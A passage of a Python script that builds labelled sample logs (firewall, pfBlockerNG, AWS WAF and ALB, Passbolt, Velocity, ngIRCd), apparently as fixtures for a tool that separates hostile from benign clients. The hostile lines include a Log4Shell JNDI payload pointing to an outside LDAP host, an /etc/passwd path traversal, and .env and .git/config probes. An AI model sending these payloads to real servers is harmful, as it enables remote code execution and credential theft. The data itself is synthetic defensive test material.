 (H, "203.0.113.91", ss("12:45", 'pri=5 srcif="Ethernet0" srcifname="out" ipproto=tcp dstif="Ethernet1" dstifname="in" proto=ssh src=203.0.113.91 srcport=51240 srcportname=ephemeral_fw_tcp dst=192.0.2.10 dstport=22 dstportname=ssh action=block ruleid=14 logtype="filter"')),
 (H, "198.51.100.91", ss("20:00", 'user="admin" src=198.51.100.91 dst=192.0.2.1 method="PASSWORD" error=1 msg="Authentication failed" logtype="server"')),
 (B, None, ss("30:00", 'user="admin" src=192.0.2.91 dst=192.0.2.1 method="PASSWORD" error=0 msg="Authentication successful" logtype="server"')),
 (B, None, ss("30:10", 'pri=5 srcif="Ethernet1" srcifname="in" ipproto=tcp dstif="Ethernet0" dstifname="out" proto=https src=192.168.10.20 srcport=50512 srcportname=ephemeral_fw_tcp dst=192.0.2.80 dstport=443 dstportname=https action=pass ruleid=3 logtype="filter"')),
 (B, None, ss("31:00", 'pri=4 srcif="Ethernet1" srcifname="in" ipproto=udp proto=netbios-ns src=192.168.10.44 srcport=137 dst=192.168.10.255 dstport=137 action=block msg="Broadcast dropped" class=protocol classification=0 alarmid=1 target=src logtype="alarm"')),
]

# pfBlockerNG's ip_block.log / ip_permit.log (headerless CSV: date, rule number, real and friendly interface, action, IP
# version, protocol number and name, source, destination, ports, direction, GeoIP, alias, matched network, feed, source
# and destination host names, duplicate flag), from knowledge of its log layout.
def pb(ts, rule, iface, act, proto, pname, src, dst, sp, dp, d, geo, alias, net, feed, sh, dh):
    return f"May 2 08:{ts},{rule},igb0,{iface},{act},4,{proto},{pname},{src},{dst},{sp},{dp},{d},{geo},{alias},{net},{feed},{sh},{dh},-,+"
S['pfblockerng'] = [
 (H, "203.0.113.97", pb("12:44", 1770009100, "WAN", "block", 6, "TCP-S", "203.0.113.97", "192.0.2.1", 51234, 3389, "in", "NL", "pfB_PRI1_v4", "203.0.113.0/24", "ET_Block_v4", "Unknown", "fw.example.org")),
 (H, "203.0.113.97", pb("12:45", 1770009100, "WAN", "block", 6, "TCP-S", "203.0.113.97", "192.0.2.1", 51240, 22, "in", "NL", "pfB_PRI1_v4", "203.0.113.0/24", "ET_Block_v4", "Unknown", "fw.example.org")),
 (H, "198.51.100.97", pb("20:00", 1770009101, "WAN", "block", 17, "UDP", "198.51.100.97", "192.0.2.1", 40000, 5060, "in", "US", "pfB_Scanners_v4", "198.51.100.97", "Shodan_v4", "scanner.example.net", "fw.example.org")),
 (B, None, pb("30:00", 1770009200, "LAN", "block", 6, "TCP-S", "192.168.1.20", "192.0.2.200", 50512, 443, "out", "US", "pfB_Ads_v4", "192.0.2.200", "Ads_Trackers", "laptop.lan", "ads.tracker.example")),
 (B, None, pb("30:10", 1770009300, "WAN", "permit", 6, "TCP-S", "192.0.2.98", "192.0.2.1", 50600, 443, "in", "DE", "pfB_Permit_v4", "192.0.2.98", "Office_Allow", "office.example.org", "fw.example.org")),
]

# AWS WAF logs (one JSON record per request: action, terminatingRuleId/Type, ruleGroupList, rateBasedRuleList,
# nonTerminatingMatchingRules, httpRequest.clientIp/uri/headers, labels), from knowledge of AWS's documented log fields. A
# blocked Log4Shell probe names a second address inside its payload: the client is httpRequest.clientIp. A COUNT match on
# an allowed request is "either".
def waf(t, action, rid, rtype, ip, country, method, uri, ua, groups=None, nonterm=None, labels=None, rate=None):
    o = {"timestamp": 1714637000000 + t, "formatVersion": 1,
         "webaclId": "arn:aws:wafv2:eu-west-1:111122223333:regional/webacl/shop-acl/a1b2c3d4-5678-90ab-cdef-EXAMPLE11111",
         "terminatingRuleId": rid, "terminatingRuleType": rtype, "action": action, "terminatingRuleMatchDetails": [],
         "httpSourceName": "ALB", "httpSourceId": "111122223333-app/shop-alb/50dc6c495c0c9188",
         "ruleGroupList": groups or [], "rateBasedRuleList": rate or [], "nonTerminatingMatchingRules": nonterm or [],
         "requestHeadersInserted": None, "responseCodeSent": None,
         "httpRequest": {"clientIp": ip, "country": country,
                         "headers": [{"name": "Host", "value": "shop.example.org"}, {"name": "User-Agent", "value": ua}],
                         "uri": uri, "args": "", "httpVersion": "HTTP/1.1", "httpMethod": method,
                         "requestId": "1-66335a3c-%024x" % t}}
    if labels: o["labels"] = [{"name": n} for n in labels]
    return J(o)
KBI = [{"ruleGroupId": "AWS#AWSManagedRulesKnownBadInputsRuleSet", "terminatingRule": {"ruleId": "Log4JRCE_HEADER", "action": "BLOCK", "ruleMatchDetails": None}, "nonTerminatingMatchingRules": [], "excludedRules": None, "customerConfig": None}]
CRS = [{"ruleGroupId": "AWS#AWSManagedRulesCommonRuleSet", "terminatingRule": {"ruleId": "GenericLFI_URIPATH", "action": "BLOCK", "ruleMatchDetails": None}, "nonTerminatingMatchingRules": [], "excludedRules": None, "customerConfig": None}]
S['aws-waf'] = [
 (H, "203.0.113.93", waf(564123, "BLOCK", "AWS-AWSManagedRulesKnownBadInputsRuleSet", "MANAGED_RULE_GROUP", "203.0.113.93", "NL", "GET", "/", "${jndi:ldap://198.51.100.200:1389/a}", groups=KBI, labels=["awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header"])),
 (H, "203.0.113.93", waf(566001, "BLOCK", "AWS-AWSManagedRulesCommonRuleSet", "MANAGED_RULE_GROUP", "203.0.113.93", "NL", "GET", "/index.php/../../../../etc/passwd", "Mozilla/5.0", groups=CRS, labels=["awswaf:managed:aws:core-rule-set:GenericLFI_URIPath"])),
 (H, "198.51.100.93", waf(1000500, "BLOCK", "login-rate-limit", "RATE_BASED", "198.51.100.93", "US", "POST", "/wp-login.php", "python-requests/2.31.0", rate=[{"rateBasedRuleId": "arn:aws:wafv2:eu-west-1:111122223333:regional/ratebasedrule/login-rate-limit/0a1b2c3d", "rateBasedRuleName": "login-rate-limit", "limitKey": "IP", "maxRateAllowed": 100, "evaluationWindowSec": "300", "customValues": []}])),
 (E, "198.51.100.94", waf(1100000, "ALLOW", "Default_Action", "REGULAR", "198.51.100.94", "US", "GET", "/search", "Mozilla/5.0", nonterm=[{"ruleId": "SQLi-count", "action": "COUNT", "ruleMatchDetails": []}])),
 (B, None, waf(1800000, "ALLOW", "Default_Action", "REGULAR", "192.0.2.93", "DE", "GET", "/products/42", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4)")),
 (B, None, waf(1800500, "ALLOW", "allow-office", "REGULAR", "192.0.2.94", "DE", "POST", "/admin/orders", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")),
]

# AWS Application Load Balancer access logs (space-separated, quoted request, user agent, trace id, domain, certificate,
# priority, request creation time, "actions_executed", redirect, error reason, target lists, classification), from
# knowledge of AWS's documented field list. "waf" in actions_executed with ELB status 403 is the WAF's block.
def alb(ts, client, target, times, elb, tst, rb, sb, req, ua, tg_ip, actions, err="-"):
    tgt = target if target else "-"
    return (f'https 2024-05-02T08:{ts}Z app/shop-alb/50dc6c495c0c9188 {client} {tgt} {times} {elb} {tst} {rb} {sb} "{req}" "{ua}" '
            f'ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:eu-west-1:111122223333:targetgroup/shop-tg/73e2d6bc24d8a067 '
            f'"Root=1-66335a3c-0123456789abcdef01234567" "shop.example.org" "arn:aws:acm:eu-west-1:111122223333:certificate/12345678-1234-1234-1234-123456789012" '
            f'0 2024-05-02T08:{ts}Z "{actions}" "-" "{err}" "{tg_ip}" "{tst}" "-" "-"')
S['aws-alb'] = [
 (H, "203.0.113.94", alb("12:44.123456", "203.0.113.94:51234", None, "-1 -1 -1", 403, "-", 145, 202, "GET https://shop.example.org:443/.env HTTP/1.1", "Mozilla/5.0 zgrab/0.x", "-", "waf")),
 (H, "203.0.113.94", alb("12:44.523456", "203.0.113.94:51236", None, "-1 -1 -1", 403, "-", 151, 202, "GET https://shop.example.org:443/.git/config HTTP/1.1", "Mozilla/5.0 zgrab/0.x", "-", "waf")),
 (H, "198.51.100.95", alb("20:00.101010", "198.51.100.95:40000", None, "-1 -1 -1", 403, "-", 812, 202, "POST https://shop.example.org:443/wp-login.php HTTP/1.1", "python-requests/2.31.0", "-", "waf")),
 (B, None, alb("30:00.000101", "192.0.2.95:50512", "10.0.13.5:80", "0.000 0.012 0.000", 200, 200, 310, 5120, "GET https://shop.example.org:443/products/42 HTTP/1.1", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4)", "10.0.13.5:80", "waf,forward")),
 (B, None, alb("30:05.000101", "192.0.2.95:50514", "10.0.13.6:80", "0.000 0.001 -1", 502, "-", 280, 272, "POST https://shop.example.org:443/cart HTTP/1.1", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4)", "10.0.13.6:80", "waf,forward", "TargetConnectionErrorCode")),
 (B, None, alb("30:10.000101", "192.0.2.96:50600", "10.0.13.5:80", "0.000 0.004 0.000", 404, 404, 300, 512, "GET https://shop.example.org:443/favicon.ico HTTP/1.1", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X)", "10.0.13.5:80", "waf,forward")),
]

# Passbolt's logs/error.log written by CakePHP 4's FileLog ("DATE TIME Level: message") through its ErrorLogger, which
# appends the request context on lines of their own ("Request URL: …", "Referer URL: …", "Client IP: …"), as CakePHP's
# ErrorLogger found by the code search builds it; the exception wordings and Passbolt's paths from knowledge. A record's
# first line names no client: the "Client IP:" line that closes it is the one labelled. A LAN browser's missing favicon
# is benign.
def pbt(ts, lvl, msg): return f"2024-05-02 08:{ts} {lvl}: {msg}"
MRE = "[Cake\\Routing\\Exception\\MissingRouteException] A route matching \"{0}\" could not be found. in /usr/share/php/passbolt/vendor/cakephp/cakephp/src/Routing/RouteCollection.php on line 150"
S['passbolt'] = [
 (N, None, pbt("12:44", "Error", MRE.format("/wp-login.php"))),
 (N, None, "Request URL: /wp-login.php"),
 (H, "203.0.113.81", "Client IP: 203.0.113.81"),
 (N, None, pbt("12:45", "Error", MRE.format("/.env"))),
 (N, None, "Request URL: /.env"),
 (H, "203.0.113.81", "Client IP: 203.0.113.81"),
 (N, None, pbt("20:00", "Error", "[Cake\\Http\\Exception\\ForbiddenException] You are not authorized to access that location. in /usr/share/php/passbolt/src/Controller/AppController.php on line 113")),
 (N, None, "Request URL: /users.json?api-version=v2"),
 (H, "198.51.100.81", "Client IP: 198.51.100.81"),
 (N, None, pbt("30:00", "Error", MRE.format("/favicon.ico"))),
 (N, None, "Request URL: /favicon.ico"),
 (N, None, "Referer URL: https://passbolt.example.org/app/passwords"),
 (B, None, "Client IP: 192.0.2.81"),
 (B, None, pbt("31:00", "Error", "[PDOException] SQLSTATE[HY000] [2002] Connection refused in /usr/share/php/passbolt/vendor/cakephp/cakephp/src/Database/Driver.php on line 133")),
 (N, None, "Request URL: /healthcheck/status.json"),
 (B, None, "Client IP: 127.0.0.1"),
]

# Velocity (Minecraft proxy) console log "[HH:MM:SS LEVEL]: message" with its "[initial connection] /ADDR:PORT has
# disconnected: You are not logged into your Minecraft account. …" (the online-mode authentication failure), "[connected
# player] NAME (/ADDR:PORT) has connected", "[initial connection] /ADDR:PORT is pinging the server with version …", as a
# public deployment note and a log-watching script found by the code search quote them; the backend and start-up lines
# from knowledge.
def vl(ts, lvl, msg): return f"[{ts} {lvl}]: {msg}"
NOTLOGGED = "You are not logged into your Minecraft account. If you are logged into your Minecraft account, try restarting your Minecraft client."
S['velocity'] = [
 (B, None, vl("08:00:00", "INFO", "Booting up Velocity 3.3.0-SNAPSHOT (git-3c3b3f48-b400)...")),
 (B, None, vl("08:00:02", "INFO", "Listening on /[0:0:0:0:0:0:0:0%0]:25577")),
 (E, "203.0.113.83", vl("08:12:40", "INFO", "[initial connection] /203.0.113.83:57224 is pinging the server with version Unknown")),
 (H, "203.0.113.83", vl("08:12:44", "INFO", f"[initial connection] /203.0.113.83:57230 has disconnected: {NOTLOGGED}")),
 (H, "203.0.113.83", vl("08:12:47", "INFO", f"[initial connection] /203.0.113.83:57236 has disconnected: {NOTLOGGED}")),
 (H, "198.51.100.83", vl("08:20:00", "INFO", f"[initial connection] /198.51.100.83:40000 has disconnected: {NOTLOGGED}")),
 (B, None, vl("08:30:00", "INFO", "[connected player] Steve (/192.0.2.83:53802) has connected")),
 (B, None, vl("08:30:01", "INFO", "[server connection] Steve -> lobby has connected")),
 (B, None, vl("08:31:00", "ERROR", "[connected player] Steve (/192.0.2.83:53802): unable to connect to server survival: io.netty.channel.AbstractChannel$AnnotatedConnectException: Connection refused: /10.0.18.5:25566")),
 (B, None, vl("08:50:00", "INFO", "[connected player] Steve (/192.0.2.83:53802) has disconnected")),
]

# ngIRCd over syslog ("[PID:LEVEL UPTIME] message"), as ngircd/ngircd #314 quotes it: "Accepted connection N from
# "ADDR:PORT" on socket N.", "User "NICK!USER@HOST" rejected (connection N): "REASON" (G-Line)!", "Shutting down
# connection N (…) with "HOST:PORT" ...", "Connection N with "HOST:PORT" closed (in: …, out: …)."; Bad_OperPass's
# "Got invalid OPER from "%s": "%s" -- %s!" from ngIRCd's irc-oper.c found by the code search; the registration and
# server-link lines from knowledge. A rejected or bad-OPER client is named in its mask; the connection lines before them
# are unlabelled.
def ng(ts, lvl, up, msg): return f'May  2 08:{ts} irc ngircd[43668]: [43668:{lvl} {up}] {msg}'
S['ngircd'] = [
 (B, None, ng("00:00", 5, 0, 'ngIRCd 26.1-IDENT+IPv6+IRCPLUS+SSL+SYSLOG+ZLIB-x86_64/pc/linux-gnu started.')),
 (N, None, ng("12:44", 6, 764, 'Accepted connection 9 from "203.0.113.84:52968" on socket 6.')),
 (H, "203.0.113.84", ng("12:44", 3, 764, 'User "spam01!~bot@203.0.113.84" rejected (connection 9): "spam bots" (G-Line)!')),
 (N, None, ng("12:44", 6, 764, 'Shutting down connection 9 ("spam bots" (G-Line)) with "203.0.113.84:52968" ...')),
 (N, None, ng("12:44", 6, 764, 'Connection 9 with "203.0.113.84:52968" closed (in: 0.1k, out: 0.1k).')),
 (H, "203.0.113.84", ng("12:50", 3, 1130, 'User "spam02!~bot@203.0.113.84" rejected (connection 11): "spam bots" (G-Line)!')),
 (H, "198.51.100.84", ng("20:00", 3, 1560, 'Got invalid OPER from "eve!~eve@198.51.100.84": "admin" -- bad password!')),
 (B, None, ng("30:00", 6, 1800, 'Accepted connection 14 from "192.0.2.84:50512" on socket 6.')),
 (B, None, ng("30:01", 5, 1801, 'User "alice!~alice@192.0.2.84" registered (connection 14).')),
 (B, None, ng("31:00", 3, 1860, 'Can\'t connect to "hub.irc.example.org" (connection 15): Connection refused!')),
]

out = sys.argv[1]
counts = sum((write_service(out, name, rows) for name, rows in S.items()), Counter())
print(len(S), "services, hostile", counts['H'], "benign", counts['B'], "either", counts['E'])
